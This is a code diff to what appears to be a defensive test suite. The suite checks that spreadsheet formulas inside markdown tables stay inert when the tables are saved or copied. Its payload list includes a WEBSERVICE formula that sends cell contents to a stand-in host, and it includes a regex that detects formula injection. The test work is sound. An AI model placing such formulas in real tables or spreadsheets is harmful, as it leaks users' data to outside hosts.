@@ -1,5 +1,6 @@
+import { markdownHtml } from '../../../lib/documents/index.ts';
 import { csvCell } from '../../../lib/text/index.ts';
-import { type Attempt, type Family, HARMLESS } from './family.ts';
+import { type Attempt, type Family, HARMLESS, unless } from './family.ts';
 
 const FORMULAS = [
   '=WEBSERVICE("https://sink.test/?d="&A1)',
@@ -57,12 +58,37 @@ function isFormula(cell: string): boolean {
   return /^[=＝]/.test(text) || /^[+\-@＋－＠].*(?:\p{L}\s*[(（]|[|!])/u.test(text);
 }
 
+/** How an answer shows a formula in a table that is copied. */
+const SHOWN: Record<string, (formula: string) => string> = {
+  plain: (formula) => formula,
+  code: (formula) => `\`${formula}\``,
+  strong: (formula) => `**${formula}**`,
+  'behind spaces': (formula) => `   ${formula}`,
+};
+
+const pasted = FORMULAS.flatMap((formula) =>
+  Object.entries(SHOWN).map(([name, show]): Attempt => {
+    const table = `| Name | Sum |\n|---|---|\n| a | ${show(formula.replaceAll('|', '\\|'))} |`;
+    return {
+      name: `copied as ${name}: ${formula}`,
+      run: () => {
+        const cell = [...markdownHtml(table).matchAll(/<td([^>]*)>/g)].at(-1)?.[1] ?? '';
+        return unless(/mso-number-format:'\\@'.*data-sheets-value=/.test(cell), `a cell with${cell}`);
+      },
+    };
+  }),
+);
+
 export const SPREADSHEETS: Family = {
   name: 'formulas in tables that are saved',
-  controls: ['a formula in a table does not run in a spreadsheet'],
-  minSent: 1,
-  attempts: () =>
-    FORMULAS.flatMap((formula) =>
+  controls: [
+    'a formula in a table does not run in a spreadsheet',
+    'a formula in a table that is copied does not run in a spreadsheet',
+  ],
+  minSent: 0.9,
+  attempts: () => [
+    ...pasted,
+    ...FORMULAS.flatMap((formula) =>
       BEFORE.flatMap((before) =>
         GAPS.map((gap): Attempt => {
           const text = `${before}${gap}${formula}`;
@@ -81,4 +107,5 @@ export const SPREADSHEETS: Family = {
         }),
       ),
     ),
+  ],
 };
